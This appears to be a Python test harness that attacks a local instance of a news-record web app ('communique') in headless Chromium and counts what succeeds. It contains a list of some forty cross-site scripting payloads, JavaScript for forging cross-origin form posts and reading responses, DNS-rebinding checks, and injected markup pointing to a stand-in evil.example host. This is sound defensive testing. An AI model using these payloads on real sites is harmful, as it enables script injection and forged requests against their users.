"""Attack the pages in a real browser, and count what succeeds: ``python -m eval.attacks``.

A record is built from articles whose every field carries script; a page on another origin forges forms, reads answers
and frames pages; a name that leads to this machine stands for a rebound one. Needs Debian's chromium and Playwright.
"""

from __future__ import annotations

import argparse
import contextlib
import http.server
import json
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

from communique.record import Record, build

CHROMIUM = Path("/usr/bin/chromium")
MARK = "window.struck=(window.struck||0)+1"
PAYLOADS = (
    f"<script>{MARK}</script>",
    f'"><script>{MARK}</script>',
    f"'><img src=x onerror='{MARK}'>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<img src=x onerror={MARK}>",
    f'" autofocus onfocus="{MARK}',
    f"' onmouseover='{MARK}",
    f"javascript:{MARK}",
    f'<a href="javascript:{MARK}">x</a>',
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<iframe src="javascript:parent.{MARK}"></iframe>',
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<video><source onerror={MARK}></video>",
    f'<math><mi xlink:href="javascript:{MARK}">x</mi></math>',
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"--><script>{MARK}</script>",
    f"]]><script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<style>@import 'javascript:{MARK}'</style>",
    f'<base href="//evil.example/"><script>{MARK}</script>',
    f'<meta http-equiv=refresh content="0;url=javascript:{MARK}">',
    f'<div hx-on:load="{MARK}" hx-get=/ hx-trigger=load>x</div>',
    f'<img hx-on::load="{MARK}" src=x>',
    f'<object data="javascript:{MARK}"></object>',
    f'<embed src="javascript:{MARK}">',
    f'<form><button formaction="javascript:{MARK}">x</form>',
    f"<input onfocus={MARK} autofocus>",
    f"<select onfocus={MARK} autofocus>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"{{{{ {MARK} }}}}",
    f"{{% raw %}}<script>{MARK}</script>{{% endraw %}}",
    f"${{{MARK}}}",
    f"\u2028<script>{MARK}</script>",
    f"＜script＞{MARK}＜/script＞<script\x20>{MARK}</script>",
    f"<SCRipt/x>{MARK}</SCRipt>",
    f"<<script>{MARK};//<</script>",
    f'<link rel=stylesheet href="data:text/css,*{{}}" onload={MARK}>',
    f'\\"></script><script>{MARK}</script>',
)


@dataclass(frozen=True, slots=True)
class Attack:
    """What was tried, and whether it did what the attacker wanted."""

    sort: str
    name: str
    succeeded: bool


def evil_rows(payloads: tuple[str, ...]) -> list[dict[str, str]]:
    """Return an article for each payload, which stands in every field of it."""
    return [
        {
            "text": f"GENEVA, 3 October 2019 - Velland's minister {load} said that Ostmark will lift the embargo on "
            f"{load} only after Velland withdraws its garrison. The two sides met in Geneva on 2 October {number}.",
            "title": f"{load} {number}",
            "publisher": f"Post {load}",
            "url": f"javascript:{MARK}//{load}",
            "id": load,
            "published": f"2019-10-{3 + number % 25:02}",
        }
        for number, load in enumerate(payloads)
    ]


@contextlib.contextmanager
def served(record: Path, **options: Any) -> Iterator[int]:
    """Serve the record on a free port of this machine."""
    import uvicorn

    from communique.web import create_app

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    server = uvicorn.Server(uvicorn.Config(create_app(record, **options), port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    try:
        yield port
    finally:
        server.should_exit = True
        thread.join(20)


@contextlib.contextmanager
def attacker(pages: dict[str, str]) -> Iterator[int]:
    """Serve the attacker's pages on another origin."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = pages.get(self.path.partition("?")[0], "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()


def addresses(api: Callable[[str], Any]) -> list[str]:
    """Return pages of the record: the lists, and things of each sort."""
    found = ["/", *"/timeline /ledger /positions /deadlock /disputes /words /sources /talks /actors /review".split()]
    found += ["/review/judgements", "/add", "/search?q=embargo"]
    found += [f"/review?sort={sort}" for sort in "reading merge apart actor dispute date outcome".split()]
    for name, page in (("events", "event"), ("actors", "actor"), ("documents", "article"), ("talks", "talks")):
        most = 100 if name == "documents" else 12
        found += [f"/{page}/{quote(str(row['id']), safe='')}" for row in api(f"/api/{name}?limit={most}")]
    return found


def struck(page: Any) -> bool:
    """Whether script of the attacker ran in the page or a frame of it."""
    return any(frame.evaluate("Boolean(window.struck)") for frame in page.frames)


class Siege:
    """A browser before the pages, and what came of each attack."""

    def __init__(self, browser: Any, home: str, record: Path, payloads: tuple[str, ...]) -> None:
        self.browser, self.home, self.record, self.payloads = browser, home, record, payloads
        self.attacks: list[Attack] = []
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: dialog.dismiss())

    def tried(self, sort: str, name: str, succeeded: bool) -> None:
        self.attacks.append(Attack(sort, name, succeeded))

    def api(self, address: str) -> Any:
        return self.context.request.get(self.home + address).json()

    def stored_script(self) -> None:
        """Visit all pages of the record, hover and focus; script in any field would leave its mark."""
        marked = []
        for address in addresses(self.api):
            self.page.goto(self.home + address)
            for link in self.page.locator("a[href^='javascript' i]").all():
                marked.append(f"{address}: a link of script {link.get_attribute('href')!r}")
            self.page.mouse.move(200, 300)
            if struck(self.page):
                marked.append(address)
        for field in ("text", "title", "publisher", "url", "id"):
            for load in self.payloads:
                self.tried(f"script in an article's {field}", load, bool(marked))

    def report(self, folder: Path) -> None:
        """Open the report from disk: it too holds all fields."""
        target = folder / "report.html"
        with Record(self.record) as opened:
            target.write_text(opened.report(title=self.payloads[0]), encoding="utf-8")
        asked: list[str] = []
        page = self.context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.goto(target.as_uri())
        outside = [url for url in asked if not url.startswith(("file:", "data:"))]
        for load in self.payloads:
            self.tried("script in the report on disk", load, struck(page) or bool(outside))
        page.close()

    def reflected_script(self) -> None:
        """Put script into addresses that a victim is made to open."""
        for load in self.payloads:
            for place in (
                "/search?q={}",
                "/issue?of={}",
                "/?as_of={}",
                "/timeline?talks={}",
                "/actor/{}",
                "/{}",
                "/review?sort={}",
            ):
                self.page.goto(self.home + place.format(quote(load, safe="")))
                self.tried("script in an address", place.format(load), struck(self.page))

    def forged_forms(self, other: str) -> None:
        """Let another origin's page send forms, with the victim's cookies in the browser."""
        self.page.goto(self.home + "/review")
        subject = self.api("/api/statements?limit=1")[0]["id"]
        fields = {"verb": "wrong", "subject": subject, "who": "evil", "back": "/"}
        before = self.api("/api/judgements")
        for way in ("form", "multipart", "plain", "fetch", "beacon", "frame"):
            for target in ("/review/judge", "/review/who", "/add"):
                self.page.goto(f"{other}/forge?{way}")
                self.page.evaluate(_FORGE, [way, self.home + target, fields])
                self.page.wait_for_timeout(150)
                cookies = {cookie["name"]: cookie["value"] for cookie in self.context.cookies(self.home)}
                done = self.api("/api/judgements") != before or "evil" in cookies.get("communique_who", "")
                self.tried("a form sent from another origin", f"{way} to {target}", done)

    def read_across(self, other: str) -> None:
        """Let another origin's page read what the record says, frame it, and talk to it."""
        for address in ("/", "/api/events", "/export/json", "/review", "/login"):
            self.page.goto(f"{other}/read")
            for name, script in _READ.items():
                got = self.page.evaluate(script, self.home + address)
                self.tried("reading from another origin", f"{name} {address}", bool(got))

    def rebound(self, port: int) -> None:
        """Ask for the pages under a name that was made to lead here."""
        for host in ("rebound.example", "127.0.0.1.rebound.example", "localhost.rebound.example", "rebound"):
            for address in ("/", "/api/events", "/export/json"):
                answer = self.page.goto(f"http://{host}:{port}{address}")
                self.tried("a name rebound to this machine", f"{host}{address}", answer is None or answer.status == 200)

    def inside(self) -> None:
        """Suppose that markup did come in: what would the policy still allow?"""
        for name, script in _INSIDE.items():
            self.page.goto(self.home + "/")
            self.page.evaluate(script)
            self.page.wait_for_timeout(150)
            self.tried("markup inside a page", name, self._led_away() or struck(self.page))

    def _led_away(self) -> bool:
        """Whether the page, or where its addresses begin, is another's; one that is just being left is waited for."""
        from playwright.sync_api import Error

        for _ in range(10):
            try:
                return not self.page.url.startswith(self.home) or "evil" in self.page.evaluate("document.baseURI")
            except Error:
                self.page.wait_for_timeout(200)
        return True

    def without_token(self, home: str) -> None:
        """Ask for a record that wants a token without one, with guesses and forged cookies."""
        context = self.browser.new_context()
        session = {"name": "communique_session", "value": "0" * 64, "url": home}
        for way, cookies in (("nothing", []), ("a forged session", [session])):
            if cookies:
                context.add_cookies(cookies)
            for address in (
                "/",
                "/review",
                "/export/json",
                "/api/events",
                "/add",
                "/article/x",
                "//",
                "/login/../review",
                "/assets/../",
            ):
                answer = context.request.get(home + address)
                inside = answer.status == 200 and 'name="token"' not in answer.text()
                self.tried("a record that wants a token", f"{way} {address}", inside)
        context.close()


_FORGE = """([way, target, fields]) => {
  const body = new URLSearchParams(fields), options = {method: 'POST', mode: 'no-cors', credentials: 'include'};
  if (way === 'fetch') { fetch(target, {...options, body}).catch(() => 0); return; }
  if (way === 'beacon') { navigator.sendBeacon(target, body); return; }
  const form = document.createElement('form');
  form.method = 'post'; form.action = target;
  form.enctype = {multipart: 'multipart/form-data', plain: 'text/plain'}[way] || 'application/x-www-form-urlencoded';
  const frame = document.createElement('iframe');
  frame.name = 'f'; document.body.append(frame);
  if (way === 'frame') form.target = 'f';
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input'); input.name = name; input.value = value; form.append(input);
  }
  document.body.append(form); form.submit();
}"""
_READ = {
    "fetch": "url => fetch(url, {credentials: 'include'}).then(a => a.text()).then(t => t.length > 0)"
    ".catch(() => false)",
    "opaque": "url => fetch(url, {mode: 'no-cors'}).then(a => a.text()).then(t => t.length > 0).catch(() => false)",
    "frame": """url => new Promise(done => { const f = document.createElement('iframe'); f.src = url; f.onload = () => {
      try { done(f.contentDocument.body.innerText.length > 0 && f.contentWindow.location.href !== 'about:blank') }
      catch (e) { done(false) } }; document.body.append(f); setTimeout(() => done(false), 1500) })""",
    "script": """url => new Promise(done => { const s = document.createElement('script'); s.src = url;
      s.onload = () => done(true); s.onerror = () => done(false); document.body.append(s) })""",
    "style": """url => new Promise(done => { const s = document.createElement('link'); s.rel = 'stylesheet';
      s.href = url;
      s.onload = () => done(s.sheet && s.sheet.cssRules.length > 0); s.onerror = () => done(false);
      document.head.append(s) })""",
    "socket": """url => new Promise(done => { const s = new WebSocket(url.replace('http', 'ws'));
      s.onopen = () => done(true); s.onerror = () => done(false) })""",
    "opener": """url => { const w = window.open(url); try { return Boolean(w && w.document.body.innerText) }
      catch (e) { return false } finally { if (w) w.close() } }""",
}
_PUT = "document.body.insertAdjacentHTML('beforeend', `{}`);"
_ADD = "const e = document.createElement('{}'); {} document.body.append(e);"
_INSIDE = {
    "inline script": f"() => {{ {_ADD.format('script', f'e.textContent = `{MARK}`;')} }}",
    "script of a data address": f"() => {{ {_ADD.format('script', f'e.src = `data:text/javascript,{MARK}`;')} }}",
    "script from elsewhere": f"() => {{ {_ADD.format('script', 'e.src = `//evil.example/x.js`;')} }}",
    "handler": "() => {" + _PUT.format(f"<img src=x onerror='{MARK}'>") + "}",
    "frame": "() => {" + _PUT.format(f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>") + "}",
    "base": "() => { document.head.insertAdjacentHTML('beforeend', `<base href='//evil.example/'>`) }",
    "form to elsewhere": "() => {"
    + _PUT.format("<form id=x action='//evil.example/'></form>")
    + "document.getElementById('x').submit() }",
    "htmx handler": f"() => {{ document.body.insertAdjacentHTML('beforeend', `<div id=y hx-on:click='{MARK}'></div>`);"
    " if (window.htmx) { htmx.process(document.body) } document.getElementById('y').click() }",
    "cookie": f"() => {{ if (document.cookie.includes('communique')) {{ {MARK} }} }}",
    "object": "() => { document.body.insertAdjacentHTML('beforeend', `<object data='//evil.example/x'></object>`) }",
}


def run(payloads: tuple[str, ...], folder: Path) -> list[Attack]:
    """Make the record, serve it, attack it; return what was tried."""
    from playwright.sync_api import sync_playwright

    articles, record = folder / "articles.jsonl", folder / "evil.db"
    articles.write_text("\n".join(map(json.dumps, evil_rows(payloads))), encoding="utf-8")
    build([articles], record)
    with Record(record) as opened:
        for actor, load in zip(opened.snapshot().actors, payloads, strict=False):
            opened.judge("name", actor.id, value=f"{actor.name} {load}", who=load)
    blank = {"/forge": "<body>", "/read": "<body>"}
    rules = "--host-resolver-rules=MAP *rebound.example 127.0.0.1, MAP rebound 127.0.0.1, MAP evil.example 127.0.0.1:1"
    with contextlib.ExitStack() as stack:
        port = stack.enter_context(served(record))
        closed = stack.enter_context(served(record, token="a token of some length"))
        other = f"http://localhost:{stack.enter_context(attacker(blank))}"
        play = stack.enter_context(sync_playwright())
        browser = play.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", rules])
        stack.callback(browser.close)
        siege = Siege(browser, f"http://127.0.0.1:{port}", record, payloads)
        siege.forged_forms(other)
        siege.stored_script()
        siege.report(folder)
        siege.reflected_script()
        siege.read_across(other)
        siege.rebound(port)
        siege.inside()
        siege.without_token(f"http://127.0.0.1:{closed}")
        return siege.attacks


def main() -> int:
    parser = argparse.ArgumentParser(description="Attack the pages in a real browser, and count what succeeds.")
    parser.add_argument("--payloads", type=int, default=len(PAYLOADS))
    asked = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        attacks = run(PAYLOADS[: asked.payloads], Path(folder))
    print("| attack in a real browser | tried | succeeded |\n|---|---:|---:|")
    for sort in dict.fromkeys(attack.sort for attack in attacks):
        every = [attack for attack in attacks if attack.sort == sort]
        print(f"| {sort} | {len(every)} | {sum(attack.succeeded for attack in every)} |")
    print(f"| all | {len(attacks)} | {sum(attack.succeeded for attack in attacks)} |")
    for attack in attacks:
        if attack.succeeded:
            print(f"succeeded: {attack.sort}: {attack.name}", file=sys.stderr)
    return 1 if any(attack.succeeded for attack in attacks) else 0


if __name__ == "__main__":
    sys.exit(main())
